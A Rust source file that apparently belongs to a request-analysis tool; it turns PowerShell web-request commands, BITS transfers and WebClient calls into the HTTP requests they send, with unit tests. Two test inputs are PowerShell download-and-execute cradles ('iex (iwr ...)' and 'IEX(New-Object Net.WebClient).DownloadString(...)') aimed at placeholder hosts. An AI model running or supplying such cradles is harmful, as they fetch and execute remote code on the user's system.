//! PowerShell's `Invoke-WebRequest` and `Invoke-RestMethod`, also as browsers copy them, `Start-BitsTransfer`, and
//! the methods of `WebClient`, to the requests that they send.

mod parameters;
mod token;

use std::collections::BTreeMap;

use diagnostics::{Findings, Span};

use crate::client::{ClientRequest, method_override};
use crate::download::BITS;
use crate::expansion::{Expansion, VALUE_BYTES};
use crate::fetch::request_of_url;
use crate::recorded::RecordedRequest;
use crate::shell::Word;
use crate::{codes, curl, wget};
use parameters::Command;
use token::{Table, Token, tokens};

/// What Windows PowerShell calls itself. The version that will run the command is not known; rules look at the
/// name, which PowerShell 7 ends with `PowerShell/7.5.0`.
pub(crate) const DEFAULT_USER_AGENT: &str =
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.26100.4652";

/// Names of the commands that send a request.
const COMMANDS: &[(&str, Command)] = &[
    ("invoke-webrequest", Command::Web),
    ("invoke-restmethod", Command::Web),
    ("iwr", Command::Web),
    ("irm", Command::Web),
    ("start-bitstransfer", Command::Bits),
];

/// Methods of `System.Net.WebClient` and of `HttpClient` that send a request, and its method.
const METHODS: &[(&str, &str)] = &[
    (".downloadstring", "GET"),
    (".downloadfile", "GET"),
    (".downloaddata", "GET"),
    (".downloadstringasync", "GET"),
    (".downloadfileasync", "GET"),
    (".downloadstringtaskasync", "GET"),
    (".openread", "GET"),
    (".uploadstring", "POST"),
    (".uploadfile", "POST"),
    (".uploaddata", "POST"),
    (".uploadvalues", "POST"),
    (".getstringasync", "GET"),
    (".getbytearrayasync", "GET"),
    (".getstreamasync", "GET"),
    (".getasync", "GET"),
    (".postasync", "POST"),
    (".putasync", "PUT"),
    (".deleteasync", "DELETE"),
];

/// Among how many tokens the name and value of a cookie are that is added to a session.
const MAX_COOKIE_TOKENS: usize = 32;

/// Returns true if a text is a script of PowerShell that may send requests. `curl` and `wget` are names of
/// `Invoke-WebRequest` in Windows PowerShell, known by the parameters.
pub(crate) fn is_script(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let is_apart = |byte: Option<&u8>| {
        byte.is_none_or(|byte| {
            !byte.is_ascii_alphanumeric() && *byte != b'-' && *byte != b'/' && *byte != b'.'
        })
    };
    let has_command = COMMANDS.iter().any(|(command, _)| {
        lower.match_indices(command).any(|(at, _)| {
            let bytes = lower.as_bytes();
            is_apart(at.checked_sub(1).and_then(|at| bytes.get(at)))
                && is_apart(bytes.get(at + command.len()))
        })
    });
    let has_method = || {
        let calls = |name: &str| {
            lower
                .match_indices(name)
                .any(|(at, _)| lower.as_bytes().get(at + name.len()) == Some(&b'('))
        };
        lower.contains('(') && METHODS.iter().any(|(method, _)| calls(method))
    };
    let begins = lower.split_whitespace().next().unwrap_or_default();
    if matches!(
        begins,
        "powershell" | "powershell.exe" | "pwsh" | "cmd" | "cmd.exe" | "bash" | "sh"
    ) {
        // The script is in its arguments.
        return false;
    }
    let has_parameter = || {
        matches!(begins, "curl" | "wget")
            && [" -uri ", " -outfile ", " -usebasicparsing", " -method ", " -headers "]
                .iter()
                .any(|parameter| lower.contains(parameter))
    };
    // curl itself, in a line that PowerShell goes on with.
    let has_backtick = || lower.lines().any(|line| line.ends_with('`')) && lower.contains("curl");
    has_command || has_method() || has_parameter() || has_backtick()
}

/// A value of an argument.
#[derive(Clone, Debug, Default)]
struct Value {
    text: Option<String>,
    table: Option<Table>,
}

/// A session as browsers write it before the command.
#[derive(Clone, Debug, Default)]
struct Session {
    user_agent: Option<String>,
    cookies: Vec<String>,
}

/// Reads a script: one request for each command or method that sends one. `None` where there is none.
pub(crate) fn read(
    text: &str,
    expansion: &Expansion,
    findings: &mut Findings,
) -> Option<Vec<RecordedRequest>> {
    let tokens = tokens(text);
    let mut reader =
        Reader { names: BTreeMap::new(), sessions: BTreeMap::new(), found: None, expansion };
    let mut at = 0;
    while let Some(token) = tokens.get(at).filter(|_| !expansion.is_refused()) {
        let behind = tokens.get(at + 1..).unwrap_or_default();
        at += 1;
        let Token::Word { text, is_quoted: false, .. } = token else { continue };
        let lower = text.to_ascii_lowercase();
        if let Some(name) = lower.strip_prefix('$') {
            reader.variable(name, behind);
        }
        let program = lower.rsplit(['/', '\\']).next().unwrap_or_default();
        let known = COMMANDS.iter().find(|(name, _)| *name == program);
        let is_client = matches!(program, "curl" | "curl.exe" | "wget" | "wget.exe");
        // Of many commands in one statement each has all that follow as its arguments.
        if (known.is_some() || is_client) && !expansion.takes(arguments(behind).count()) {
            break;
        }
        let is_alias = matches!(program, "curl" | "wget") && has_parameters(behind);
        let command = known.map(|(_, command)| *command).or(is_alias.then_some(Command::Web));
        if let Some(command) = command {
            reader.command(command, behind, findings);
        } else if is_client {
            let words: Vec<_> =
                std::iter::once(token).chain(arguments(behind)).filter_map(Token::word).collect();
            let found = if program.starts_with("curl") {
                curl::read(&words, expansion, findings)
            } else {
                wget::read(&words, expansion, findings)
            };
            reader.found.get_or_insert_default().extend(found);
        } else if let Some((_, method)) = METHODS.iter().find(|(name, _)| lower.ends_with(name))
            && let [Token::Open, target, ..] = behind
        {
            let agent = None;
            reader.send(&reader.value(target), method, agent, findings);
        }
    }
    reader.found
}

/// The tokens of a command, up to what ends it.
fn arguments(tokens: &[Token]) -> impl Iterator<Item = &Token> {
    let mut n_open = 0_usize;
    tokens.iter().take_while(move |token| {
        match token {
            Token::Open => n_open += 1,
            Token::Close if n_open == 0 => return false,
            Token::Close => n_open -= 1,
            Token::End => return n_open > 0,
            _ => {}
        }
        true
    })
}

fn has_parameters(tokens: &[Token]) -> bool {
    arguments(tokens).any(|token| {
        let Token::Word { text, is_quoted: false, .. } = token else { return false };
        let name = text.strip_prefix('-').map(str::to_ascii_lowercase);
        name.is_some_and(|name| name.len() > 2 && Command::Web.parameter(&name).is_some())
    })
}

struct Reader<'e> {
    names: BTreeMap<String, Value>,
    sessions: BTreeMap<String, Session>,
    found: Option<Vec<RecordedRequest>>,
    expansion: &'e Expansion,
}

impl Reader<'_> {
    /// Reads what is assigned to a variable, or added to a session.
    fn variable(&mut self, name: &str, behind: &[Token]) {
        if let [Token::Word { text: equals, is_quoted: false, .. }, value, ..] = behind
            && equals == "="
        {
            let value = self.value(value);
            match name.split_once('.') {
                Some((session, "useragent")) => {
                    self.sessions.entry(session.to_owned()).or_default().user_agent = value.text;
                }
                _ => {
                    self.names.insert(name.to_owned(), value);
                }
            }
            return;
        }
        if let Some((session, "cookies.add")) = name.split_once('.') {
            // `$session.Cookies.Add((New-Object System.Net.Cookie("name", "value", "/", ".host")))`
            let arguments = arguments(behind).take(MAX_COOKIE_TOKENS);
            let mut texts = arguments.filter_map(|token| match token {
                Token::Word { text, is_quoted: true, .. } => Some(text.as_str()),
                _ => None,
            });
            if let (Some(name), Some(value)) = (texts.next(), texts.next()) {
                let session = self.sessions.entry(session.to_owned()).or_default();
                session.cookies.push(format!("{name}={value}"));
            }
        }
    }

    fn value(&self, token: &Token) -> Value {
        match token {
            Token::Table(table) => {
                let table = self.expansion.takes(n_bytes_of(table)).then(|| table.clone());
                Value { text: None, table }
            }
            Token::Word { text, is_quoted: false, .. } if text.starts_with('$') => {
                let name = text.get(1..).unwrap_or_default().to_ascii_lowercase();
                let unknown = || Value { text: Some(self.expanded(text)), table: None };
                let known = self.names.get(&name).filter(|it| self.expansion.takes(it.n_bytes()));
                known.cloned().unwrap_or_else(unknown)
            }
            Token::Word { text, .. } => Value { text: Some(self.expanded(text)), table: None },
            Token::Open | Token::Close | Token::End => Value::default(),
        }
    }

    /// Returns a text with the variables in it that are known: `$name`, `${name}` and `$($name)`, in any case.
    fn expanded(&self, text: &str) -> String {
        let mut expanded = String::new();
        if !self.expansion.takes(text.len()) {
            return expanded;
        }
        let mut rest = text;
        while let Some((before, behind)) = rest.split_once('$') {
            expanded.push_str(before);
            let bare = behind.strip_prefix("($").or_else(|| behind.strip_prefix('{'));
            let start = bare.unwrap_or(behind);
            let is_word = |char: char| char.is_alphanumeric() || char == '_';
            let end = start.find(|char: char| !is_word(char)).unwrap_or(start.len());
            let (name, after) = start.split_at_checked(end).unwrap_or((start, ""));
            let after = match bare {
                Some(_) => after.strip_prefix([')', '}']),
                None => Some(after),
            };
            let value = self.names.get(&name.to_lowercase()).and_then(|value| value.text.as_ref());
            let value = value.filter(|value| self.expansion.takes(value.len()));
            match value.zip(after) {
                Some((value, after)) => {
                    expanded.push_str(value);
                    rest = after;
                }
                None => {
                    expanded.push('$');
                    rest = behind;
                }
            }
        }
        expanded + rest
    }

    /// Adds the parameters of a table, as `@params` gives them; what is written beside it counts before.
    fn splat(
        &self,
        name: &str,
        span: Span,
        command: Command,
        given: &mut BTreeMap<&'static str, Value>,
        findings: &mut Findings,
    ) {
        let table = self.names.get(&name.to_lowercase()).and_then(|value| value.table.as_ref());
        let Some(table) = table else {
            let message = format!("the values of `@{}` are not in the text", name.escape_debug());
            let help = "put the table in front of the command, or write the parameters out";
            findings.add(&codes::IGNORED_OPTION, span, message, help);
            return;
        };
        for (key, text) in table {
            if let Some((name, true)) = command.parameter(&key.to_ascii_lowercase()) {
                if !self.expansion.takes(text.len()) {
                    return;
                }
                let token = Token::Word { text: text.clone(), is_quoted: false, span };
                given.entry(name).or_insert_with(|| self.value(&token));
            }
        }
    }

    fn command(&mut self, command: Command, behind: &[Token], findings: &mut Findings) {
        let mut given: BTreeMap<&'static str, Value> = BTreeMap::new();
        let mut session = None;
        // Further files of a transfer.
        let mut others: Vec<Value> = Vec::new();
        let mut tokens = arguments(behind).peekable();
        while let Some(token) = tokens.next() {
            let is_open = matches!(token, Token::Open);
            if let Token::Word { text, is_quoted: false, span } = token
                && let Some(name) = text
                    .strip_prefix('-')
                    .filter(|name| name.starts_with(|char: char| char.is_ascii_alphabetic()))
            {
                let (name, attached) = match name.split_once(':') {
                    Some((name, value)) => (name, Some(value)),
                    None => (name, None),
                };
                match command.parameter(&name.to_ascii_lowercase()) {
                    Some((_, false)) => {}
                    Some((name, true)) => {
                        let value = match attached.filter(|value| !value.is_empty()) {
                            Some(value) => {
                                Some(Value { text: Some(value.to_owned()), table: None })
                            }
                            None => {
                                let next = tokens.next();
                                if name == "websession"
                                    && let Some(Token::Word { text, .. }) = next
                                {
                                    let name = text.trim_start_matches('$').to_ascii_lowercase();
                                    let known = self.sessions.get(&name);
                                    let is_kept =
                                        |it: &&Session| self.expansion.takes(it.n_bytes());
                                    session = known.filter(is_kept).cloned();
                                }
                                if matches!(next, Some(Token::Open)) {
                                    pass_group(&mut tokens);
                                }
                                next.map(|next| self.value(next))
                            }
                        };
                        given.insert(name, value.unwrap_or_default());
                    }
                    None => {
                        let message = format!(
                            "`{}` is not a parameter that is known here",
                            text.escape_debug()
                        );
                        let help = "write its name as PowerShell documents it, or leave it out";
                        findings.add(&codes::UNKNOWN_OPTION, *span, message, help);
                    }
                }
            } else if is_open {
                pass_group(&mut tokens);
            } else if let Token::Word { text, is_quoted: false, span } = token
                && let Some(name) = text.strip_prefix('@').filter(|name| !name.is_empty())
            {
                self.splat(name, *span, command, &mut given, findings);
            } else {
                let value = self.value(token);
                let is_url = value.text.as_deref().is_some_and(|text| text.contains("://"));
                if command == Command::Bits && is_url && given.contains_key(command.target()) {
                    others.push(value);
                } else {
                    given.entry(command.target()).or_insert(value);
                }
            }
        }
        if command == Command::Bits {
            self.transfer(&given, &others, findings);
            return;
        }
        let session = session.unwrap_or_default();
        let text = |name: &str| given.get(name).and_then(|value| value.text.clone());
        let headers = given.get("headers").and_then(|value| value.table.as_ref());
        let header = |name: &str| {
            let found = headers?.iter().rfind(|(header, _)| header.eq_ignore_ascii_case(name));
            found.map(|(_, value)| self.expanded(value))
        };
        let method =
            text("custommethod").or_else(|| text("method")).unwrap_or_else(|| "GET".to_owned());
        let method = if method.eq_ignore_ascii_case("default") { "GET".to_owned() } else { method };
        let agent = header("user-agent").or_else(|| text("useragent")).or(session.user_agent);
        let cookies = Some(session.cookies.join("; ")).filter(|cookies| !cookies.is_empty());
        let mut uri = given.get("uri").cloned().unwrap_or_default();
        // A table as the body of a GET is its query.
        if let (Some(target), Some(body)) =
            (&mut uri.text, given.get("body").and_then(|body| body.table.as_ref()))
            && method.eq_ignore_ascii_case("get")
        {
            add_query(target, body);
        }
        let request = Sent {
            method: method.to_ascii_uppercase(),
            user_agent: Some(agent.unwrap_or_else(|| DEFAULT_USER_AGENT.to_owned())),
            referrer: header("referer"),
            cookie: header("cookie").or(cookies),
            method_override: method_override(header),
            host: header("host"),
        };
        self.add(&uri, request, findings);
    }

    /// Adds the requests of a transfer in the background, which asks for the size of a file before its parts.
    fn transfer(
        &mut self,
        given: &BTreeMap<&'static str, Value>,
        others: &[Value],
        findings: &mut Findings,
    ) {
        let text = |name: &str| given.get(name).and_then(|value| value.text.as_deref());
        let is_upload =
            text("transfertype").is_some_and(|kind| kind.to_ascii_lowercase().starts_with("up"));
        let target = if is_upload { "destination" } else { "source" };
        let target = given.get(target).cloned().unwrap_or_default();
        let methods: &[&str] = if is_upload { &["BITS_POST"] } else { &["HEAD", "GET"] };
        for target in std::iter::once(&target).chain(others) {
            for method in methods {
                self.send(target, method, Some(BITS.to_owned()), findings);
            }
        }
    }

    fn send(
        &mut self,
        target: &Value,
        method: &str,
        agent: Option<String>,
        findings: &mut Findings,
    ) {
        let request = Sent { method: method.to_owned(), user_agent: agent, ..Sent::default() };
        self.add(target, request, findings);
    }

    fn add(&mut self, target: &Value, sent: Sent, findings: &mut Findings) {
        let found = self.found.get_or_insert_default();
        if found.len() >= crate::limits::MAX_PASTED_REQUESTS {
            return;
        }
        let Some(target) = target.text.as_deref().filter(|text| !text.starts_with('$')) else {
            crate::fetch::no_url("the command", findings);
            return;
        };
        let url =
            if target.contains("://") { target.to_owned() } else { format!("http://{target}") };
        let request = ClientRequest {
            method: &sent.method,
            version: "HTTP/1.1",
            user_agent: sent.user_agent,
            referrer: sent.referrer,
            cookie: sent.cookie,
            method_override: sent.method_override,
            ..ClientRequest::default()
        };
        found.extend(request_of_url(&url, request, sent.host, self.expansion, findings));
    }
}

impl Value {
    /// Returns what a copy of the value takes of an [`Expansion`].
    fn n_bytes(&self) -> usize {
        self.text.as_ref().map_or(0, String::len) + self.table.as_ref().map_or(0, n_bytes_of)
    }
}

impl Session {
    /// Returns what a copy of the session takes of an [`Expansion`].
    fn n_bytes(&self) -> usize {
        let cookies = self.cookies.iter().map(|cookie| VALUE_BYTES + cookie.len());
        self.user_agent.as_ref().map_or(0, String::len) + cookies.sum::<usize>()
    }
}

fn n_bytes_of(table: &Table) -> usize {
    table.iter().map(|(name, value)| VALUE_BYTES + name.len() + value.len()).sum()
}

/// Adds a table to the query of a URL.
fn add_query(target: &mut String, table: &Table) {
    let encode = |text: &str| {
        percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC).to_string()
    };
    for (name, value) in table {
        target.push(if target.contains('?') { '&' } else { '?' });
        target.push_str(&format!("{}={}", encode(name), encode(value)));
    }
}

/// What is sent besides the URL.
#[derive(Debug, Default)]
struct Sent {
    method: String,
    user_agent: Option<String>,
    referrer: Option<String>,
    cookie: Option<String>,
    method_override: Option<String>,
    host: Option<String>,
}

/// Passes the rest of a group in brackets.
fn pass_group<'t>(tokens: &mut impl Iterator<Item = &'t Token>) {
    let mut n_open = 1_usize;
    for token in tokens {
        match token {
            Token::Open => n_open += 1,
            Token::Close => n_open -= 1,
            _ => {}
        }
        if n_open == 0 {
            return;
        }
    }
}

impl Token {
    /// Returns a token as an argument of a program.
    fn word(&self) -> Option<Word> {
        match self {
            Token::Word { text, span, is_quoted } => {
                let expands = !is_quoted && text.starts_with('$');
                Some(Word { text: text.clone(), span: *span, expands })
            }
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(script: &str, expect: &[&str], codes: &[&str]) {
        let mut findings = Findings::new(&"request".into());
        let requests = read(script, &Expansion::default(), &mut findings).unwrap_or_default();
        let text = |value: &Option<Vec<u8>>| {
            value.as_ref().map_or("-".to_owned(), |value| String::from_utf8_lossy(value).into())
        };
        let found: Vec<_> = requests
            .iter()
            .map(|request| {
                let url = String::from_utf8_lossy(&request.url()).into_owned();
                let method = String::from_utf8_lossy(&request.method).into_owned();
                format!("{method} {url} {} {}", text(&request.user_agent), text(&request.cookie))
            })
            .map(|line| line.replace(DEFAULT_USER_AGENT, "PowerShell"))
            .collect();
        assert_eq!(found, expect, "{script}");
        let found: Vec<_> =
            findings.into_list().iter().map(|finding| finding.diagnostic.code.id).collect();
        assert_eq!(found, codes, "{script}");
    }

    #[test]
    fn commands_become_the_requests_that_power_shell_sends() {
        check("iwr https://a.example/x", &["GET https://a.example/x PowerShell -"], &[]);
        check(
            "Invoke-RestMethod -Uri 'a.example/x y' -Me post -Bo 'z'",
            &["POST http://a.example/x%20y PowerShell -"],
            &[],
        );
        check(
            "$Base = 'https://a.example'\n$params = @{ Uri = \"$base/x\"; Method = 'POST' }\nInvoke-RestMethod @params -UserAgent u",
            &["POST https://a.example/x u -"],
            &[],
        );
        check(
            "$h = @{'User-Agent'='u'; Cookie = \"c=d\"}\nirm -Headers $h -Method:Put -Uri \"https://a.example/$($x)\"",
            &["PUT https://a.example/$($x) u c=d"],
            &["R008"],
        );
        check(
            "$X='y'; irm -Uri \"https://a.example/$($x)/${x}/$x\"",
            &["GET https://a.example/y/y/y PowerShell -"],
            &[],
        );
        check("Invoke-RestMethod @params", &[], &["R008", "R002"]);
        check(
            "$u='https://a.example'; iex (iwr -useb \"$u/x.ps1\" -UserAgent Z).Content; iwr $u/y",
            &["GET https://a.example/x.ps1 Z -", "GET https://a.example/y PowerShell -"],
            &[],
        );
        check(
            "IEX(New-Object Net.WebClient).DownloadString('http://a.example/p.ps1')",
            &["GET http://a.example/p.ps1 - -"],
            &[],
        );
        check(
            "$session = New-Object Microsoft.PowerShell.Commands.WebRequestSession\n$session.UserAgent = \"M/5\"\n$session.Cookies.Add((New-Object System.Net.Cookie(\"a\", \"b\", \"/\", \"a.example\")))\nInvoke-WebRequest -UseBasicParsing -Uri \"https://a.example/x\" `\n-Method \"POST\" `\n-WebSession $session `\n-Headers @{\n\"accept\"=\"*/*\"\n  \"referer\"=\"https://r.example/\"\n} `\n-ContentType \"application/json\" `\n-Body \"{`\"content`\":`\"hi`\"}\"",
            &["POST https://a.example/x M/5 a=b"],
            &[],
        );
        check(
            "irm a.example/x -Body @{q='a b'}",
            &["GET http://a.example/x?q=a%20b PowerShell -"],
            &[],
        );
        check("curl.exe -A z `\n https://a.example/x", &["GET https://a.example/x z -"], &[]);
        check(
            "curl -Uri https://a.example/x -OutFile y",
            &["GET https://a.example/x PowerShell -"],
            &[],
        );
        let bits = [
            "HEAD https://a.example/x Microsoft BITS/7.8 -",
            "GET https://a.example/x Microsoft BITS/7.8 -",
        ];
        check(
            "Start-BitsTransfer -Source https://a.example/x -Destination C:\\x -Asynchronous",
            &bits,
            &[],
        );
        check(
            "Import-Module BitsTransfer; Start-BitsTransfer 'https://a.example/x' C:\\x",
            &bits,
            &[],
        );
        check(
            "Start-BitsTransfer -Source 'https://a.example/a','https://a.example/b' -Destination y",
            &[
                "HEAD https://a.example/a Microsoft BITS/7.8 -",
                "GET https://a.example/a Microsoft BITS/7.8 -",
                "HEAD https://a.example/b Microsoft BITS/7.8 -",
                "GET https://a.example/b Microsoft BITS/7.8 -",
            ],
            &[],
        );
        check(
            "Start-BitsTransfer -TransferType Upload -Source x -Destination https://a.example/x",
            &["BITS_POST https://a.example/x Microsoft BITS/7.8 -"],
            &[],
        );
        check("iwr $url", &[], &["R002"]);
        check("iwr -Frob 1 https://a.example/x", &["GET http://1/ PowerShell -"], &["R007"]);
    }
}
